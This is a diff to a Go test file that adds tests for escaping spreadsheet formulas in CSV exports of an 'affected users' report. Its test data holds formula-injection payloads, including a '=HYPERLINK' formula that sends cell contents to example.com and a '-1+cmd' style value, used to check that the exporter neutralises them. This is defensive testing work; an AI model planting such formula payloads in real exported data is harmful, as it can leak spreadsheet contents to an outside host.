@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
@@ -12,6 +13,17 @@ import (
 )
 
 // The question of a regulator: who was affected by a notice, and what was it used for?
+// A key is a cell that no spreadsheet runs, and two keys are never one cell.
+func TestCells(t *testing.T) {
+	for key, want := range map[string]string{
+		"": "", "u00001": "u00001", "42": "42", "-42": "-42", "-9223372036854775808": "-9223372036854775808", "a=1": "a=1", " =1": " =1", "é": "é", "\xff": "\xff",
+		"=1+1": "'=1+1", "+49 171": "'+49 171", "+1": "'+1", "-1+cmd": "'-1+cmd", "-": "'-", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
+		"'=1": "''=1", "＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠A1": "'＠A1",
+	} {
+		require.Equal(t, want, cell(key), "%q", key)
+	}
+}
+
 func TestReportAffected(t *testing.T) {
 	onEach(t, func(t *testing.T, sh *shell, app *application) {
 		app.people(40)
@@ -28,6 +40,12 @@ func TestReportAffected(t *testing.T) {
 
 		sh.run("", "report", "affected", "--rows", "late.csv", "--html", "page.html").exits(hindered).says("page.html exists already")
 		require.NoFileExists(t, filepath.Join(sh.dir, "late.csv"))
+
+		app.exec("UPDATE " + app.users + " SET id = '=HYPERLINK(\"https://example.com/?\"&A2)' WHERE id = 'u00001'")
+		sh.run("", "report", "affected", "--rows", "formula.csv").exits(well)
+		cells, err := csv.NewReader(strings.NewReader(sh.read("formula.csv"))).ReadAll()
+		require.NoError(t, err)
+		require.Contains(t, cells, []string{app.users, `'=HYPERLINK("https://example.com/?"&A2)`})
 
 		var all report.AffectedReport
 		sh.run("", "report", "affected", "--json").exits(well).json(&all)
